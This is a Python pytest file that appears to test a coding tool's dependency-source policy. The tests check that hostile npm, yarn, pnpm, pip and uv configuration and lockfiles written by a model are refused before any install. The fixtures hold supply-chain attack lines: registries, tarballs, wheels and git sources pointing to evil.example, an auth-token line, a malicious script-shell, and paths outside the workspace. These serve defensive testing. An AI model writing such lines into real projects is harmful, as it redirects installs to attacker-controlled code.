"""Manifests, package-manager configuration and lockfiles a model writes: refused before any install.

Each case runs with the OS sandbox and again with ``--sandbox off``: the dependency-source
policy (kodr_core/sources.py) refuses these on its own, before a process starts.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.hostile.conftest import hostile_run

PKG = json.dumps({"name": "a", "version": "1.0.0", "scripts": {"test": "node --test"}})
PKG_DEP = json.dumps(
    {"name": "a", "version": "1.0.0", "scripts": {"test": "node --test"}, "dependencies": {"is-number": "7.0.0"}}
)
PYPROJECT = '[project]\nname = "a"\nversion = "0.1.0"\nrequires-python = ">=3.11"\ndependencies = ["six"]\n'
OK_TEST = "const test = require('node:test');\ntest('ok', () => {});\n"
INTEGRITY = "sha512-+0dFIWF9Jv3XkQlxEgZUfGMxNTb0YiIjuuXIaYsqgaRLTAoybxdXk6CmMcyHNjmDj/Ma/RaSqEVLMrGUHA9rw=="


def lock(resolved: str | None, integrity: str | None = INTEGRITY) -> str:
    entry = {"version": "7.0.0"}
    if resolved:
        entry["resolved"] = resolved
    if integrity:
        entry["integrity"] = integrity
    return json.dumps(
        {
            "name": "a",
            "version": "1.0.0",
            "lockfileVersion": 3,
            "requires": True,
            "packages": {
                "": {"name": "a", "version": "1.0.0", "dependencies": {"is-number": "7.0.0"}},
                "node_modules/is-number": entry,
            },
        }
    )


def uv_lock(registry: str, url: str, hash_: str | None = "sha256:" + "1" * 64, source: str | None = None) -> str:
    src = source or f'{{ registry = "{registry}" }}'
    h = f', hash = "{hash_}"' if hash_ else ""
    return (
        'version = 1\nrequires-python = ">=3.11"\n\n'
        '[[package]]\nname = "a"\nversion = "0.1.0"\nsource = { virtual = "." }\n'
        'dependencies = [{ name = "six" }]\n\n'
        f'[[package]]\nname = "six"\nversion = "1.16.0"\nsource = {src}\n'
        f'sdist = {{ url = "{url}"{h}, size = 34041 }}\n'
    )


SIB = "{sibling}"  # replaced with the sibling directory's path

CASES = {
    # .npmrc and friends (node)
    "npmrc-registry": ({".npmrc": "registry=http://127.0.0.1:9/\n"}, "node", ["'registry'"]),
    "npmrc-cache-outside": ({".npmrc": f"cache={SIB}/cache\n"}, "node", ["'cache'"]),
    "npmrc-auth-line": ({".npmrc": "//evil.example/:_authToken=abc\n"}, "node", ["auth or scoped-registry"]),
    "npmrc-scoped-registry": ({".npmrc": "@corp:registry=https://evil.example/\n"}, "node", ["scoped-registry"]),
    "npmrc-script-shell": (
        {".npmrc": "script-shell=/bin/evil\nignore-scripts=false\n"},
        "node",
        ["'script-shell'", "'ignore-scripts'"],
    ),
    "npmrc-in-subfolder": ({"sub/.npmrc": f"global=true\nprefix={SIB}\n"}, "node", ["sub/.npmrc"]),
    "npmrc-env-interpolation": ({".npmrc": "loglevel=${HOME}\n"}, "node", ["interpolation"]),
    "yarnrc-yml-registry": (
        {".yarnrc.yml": "npmRegistryServer: https://evil.example\n"},
        "node",
        ["npmRegistryServer"],
    ),
    "yarnrc-v1": ({".yarnrc": 'registry "https://evil.example"\n'}, "node", [".yarnrc"]),
    "pnpm-workspace-settings": (
        {"pnpm-workspace.yaml": "packages:\n  - '../outside'\nregistry: https://evil.example\n"},
        "node",
        ["'registry'", "outside the workspace"],
    ),
    "pnpm-section-in-package-json": (
        {
            "package.json": json.dumps(
                {"name": "a", "version": "1.0.0", "scripts": {"test": "node --test"}, "pnpm": {"overrides": {}}}
            )
        },
        "node",
        ["'pnpm' section"],
    ),
    "pnpmfile": ({".pnpmfile.cjs": "module.exports = {}\n"}, "node", [".pnpmfile.cjs"]),
    "package-json-file-dep-outside": (
        {
            "package.json": json.dumps(
                {
                    "name": "a",
                    "version": "1.0.0",
                    "scripts": {"test": "node --test"},
                    "dependencies": {"x": f"file:{SIB}"},
                }
            )
        },
        "node",
        ["outside the workspace"],
    ),
    # lockfiles (node)
    "package-lock-resolved-elsewhere": (
        {"package.json": PKG_DEP, "package-lock.json": lock("https://evil.example/is-number-7.0.0.tgz")},
        "node",
        ["not on the configured registry"],
    ),
    "package-lock-no-integrity": (
        {
            "package.json": PKG_DEP,
            "package-lock.json": lock("https://registry.npmjs.org/is-number/-/is-number-7.0.0.tgz", None),
        },
        "node",
        ["no integrity"],
    ),
    "package-lock-git": (
        {"package.json": PKG_DEP, "package-lock.json": lock("git+ssh://git@github.com/x/y.git#abc")},
        "node",
        ["not on the configured registry"],
    ),
    "yarn-lock-elsewhere": (
        {
            "package.json": PKG_DEP,
            "yarn.lock": 'is-number@7.0.0:\n  version "7.0.0"\n  resolved "https://evil.example/is-number.tgz"\n'
            f"  integrity {INTEGRITY}\n",
        },
        "node",
        ["yarn.lock", "not on the configured registry"],
    ),
    "pnpm-lock-tarball": (
        {
            "package.json": PKG_DEP,
            "pnpm-lock.yaml": "lockfileVersion: '9.0'\npackages:\n  is-number@7.0.0:\n"
            "    resolution: {tarball: https://evil.example/is-number.tgz}\n",
        },
        "node",
        ["without an integrity hash", "tarball"],
    ),
    # Python configuration and manifests
    "uv-toml": ({"uv.toml": 'index-url = "https://evil.example/simple"\n'}, "python", ["uv.toml"]),
    "pip-conf": ({"pip.conf": "[global]\nindex-url = https://evil.example/simple\n"}, "python", ["pip.conf"]),
    "tool-uv-index-url": (
        {"pyproject.toml": PYPROJECT + '\n[tool.uv]\nindex-url = "https://evil.example/simple"\n'},
        "python",
        ["[tool.uv] index-url"],
    ),
    "tool-uv-override-url": (
        {"pyproject.toml": PYPROJECT + '\n[tool.uv]\noverride-dependencies = ["six @ https://evil.example/six.whl"]\n'},
        "python",
        ["override-dependencies"],
    ),
    "tool-uv-dev-deps-path": (
        {"pyproject.toml": PYPROJECT + f'\n[tool.uv]\ndev-dependencies = ["x @ file://{SIB}"]\n'},
        "python",
        ["dev-dependencies"],
    ),
    "tool-uv-source-outside": (
        {"pyproject.toml": PYPROJECT + '\n[tool.uv.sources]\nsix = { path = "../../outside" }\n'},
        "python",
        ["outside the workspace"],
    ),
    "build-system-url": (
        {
            "pyproject.toml": PYPROJECT + '\n[build-system]\nrequires = ["hatchling @ https://evil.example/h.whl"]\n'
            'build-backend = "hatchling.build"\n'
        },
        "python",
        ["[build-system] requires"],
    ),
    "requirements-path-outside": ({"requirements.txt": "pkg @ ../../outside\n"}, "python", ["outside the workspace"]),
    "requirements-index-option": (
        {"requirements.txt": "--extra-index-url https://evil.example/simple\nsix\n"},
        "python",
        ["--extra-index-url"],
    ),
    # lockfiles (Python)
    "uv-lock-registry-rewritten": (
        {"uv.lock": uv_lock("https://evil.example/simple", "https://evil.example/six-1.16.0.tar.gz")},
        "python",
        ["not the configured index"],
    ),
    "uv-lock-file-host": (
        {"uv.lock": uv_lock("https://pypi.org/simple", "https://evil.example/six-1.16.0.tar.gz")},
        "python",
        ["not on the index's hosts"],
    ),
    "uv-lock-no-hash": (
        {
            "uv.lock": uv_lock(
                "https://pypi.org/simple", "https://files.pythonhosted.org/packages/six-1.16.0.tar.gz", None
            )
        },
        "python",
        ["no sha256 hash"],
    ),
    "uv-lock-git-source": (
        {"uv.lock": uv_lock("", "https://x", source='{ git = "https://evil.example/six.git" }')},
        "python",
        ["git source is refused"],
    ),
}


#: The subset also run with ``--sandbox off``: the policy alone refuses them.
OFF_SUBSET = (
    "npmrc-registry",
    "npmrc-in-subfolder",
    "package-lock-resolved-elsewhere",
    "yarn-lock-elsewhere",
    "tool-uv-override-url",
    "build-system-url",
    "requirements-path-outside",
    "uv-lock-registry-rewritten",
)


@pytest.mark.parametrize(
    ("case", "sandbox"), [(c, "required") for c in sorted(CASES)] + [(c, "off") for c in OFF_SUBSET]
)
def test_hostile_config_is_refused_before_any_install(workspace: Path, sibling: Path, case: str, sandbox: str) -> None:
    files, kind, needles = CASES[case]
    files = {k: v.replace(SIB, str(sibling)) for k, v in files.items()}
    base = (
        {"package.json": PKG, "a.test.js": OK_TEST}
        if kind == "node"
        else {"pyproject.toml": PYPROJECT, "test_a.py": "def test_a():\n    pass\n"}
    )
    o = hostile_run(
        workspace,
        sibling,
        {**base, **files},
        install=True,
        test="node --test" if kind == "node" else "pytest",
        sandbox=sandbox,
    )
    assert (o.state, o.reason) == ("failed", "install_refused"), o.result.err
    install = o.artifact("install.json")
    refused = " | ".join(install["refused"])
    for needle in needles:
        assert needle in refused, refused
    types = [r.type for r in o.events()]
    assert "InstallStarted" not in types and "TestsStarted" not in types  # nothing ran
    assert not (workspace / "node_modules").exists() and not (workspace / ".venv").exists()
